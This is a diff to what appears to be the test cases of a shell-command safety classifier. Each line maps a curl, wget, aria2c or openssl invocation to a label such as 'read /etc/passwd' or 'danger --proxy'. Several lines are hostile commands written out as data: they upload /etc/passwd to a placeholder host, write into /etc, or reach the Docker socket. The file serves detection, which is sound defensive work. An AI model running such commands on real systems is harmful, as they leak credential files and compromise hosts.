@@ -57,25 +57,25 @@ wget -e use_askpass=x u -> danger -e
 wget --post-file=/etc/passwd u -> read /etc/passwd
 wget -O /etc/x u -> write /etc/x
 curl -K f -> danger -K
-curl -o /etc/x u -> write /etc/x
-curl -T /etc/passwd u -> read /etc/passwd
-curl -d @/etc/passwd u -> read /etc/passwd
-curl --data-binary=@/etc/passwd u -> read /etc/passwd
-curl --data-b @/etc/passwd u -> read /etc/passwd
-curl -F x=@/etc/passwd u -> read /etc/passwd
+curl -o /etc/x http://h -> write /etc/x
+curl -T /etc/passwd http://h -> read /etc/passwd
+curl -d @/etc/passwd http://h -> read /etc/passwd
+curl --data-binary=@/etc/passwd http://h -> read /etc/passwd
+curl --data-b @/etc/passwd http://h -> read /etc/passwd
+curl -F x=@/etc/passwd http://h -> read /etc/passwd
 curl file:///etc/passwd -> read /etc/passwd
 curl --unix-socket /var/run/docker.sock http://x -> danger --unix-socket
-curl --proxy http://x u -> danger --proxy
-curl --prox=http://x u -> danger --prox
-curl -x http://x u -> danger -x
-curl -sSLxhttp://x u -> danger -sSLx
-curl --preproxy x u -> danger --preproxy
-curl --socks5-hostname x u -> danger --socks5-hostname
-curl --interface eth1 u -> danger --interface
+curl --proxy http://x http://h -> danger --proxy
+curl --prox=http://x http://h -> danger --prox
+curl -x http://x http://h -> danger -x
+curl -sSLxhttp://x http://h -> danger -sSLx
+curl --preproxy x http://h -> danger --preproxy
+curl --socks5-hostname x http://h -> danger --socks5-hostname
+curl --interface eth1 http://h -> danger --interface
 curl --resolve a:443:1.2.3.4 https://a -> danger --resolve
 curl --connect-to a:443:b:443 https://a -> danger --connect-to
-curl --dns-servers 1.2.3.4 u -> danger --dns-servers
-curl --doh-url https://x u -> danger --doh-url
+curl --dns-servers 1.2.3.4 http://h -> danger --dns-servers
+curl --doh-url https://x http://h -> danger --doh-url
 curl @u -> danger | read …
 aria2c --on-download-complete=x u -> open x
 openssl req -engine x -> danger -engine
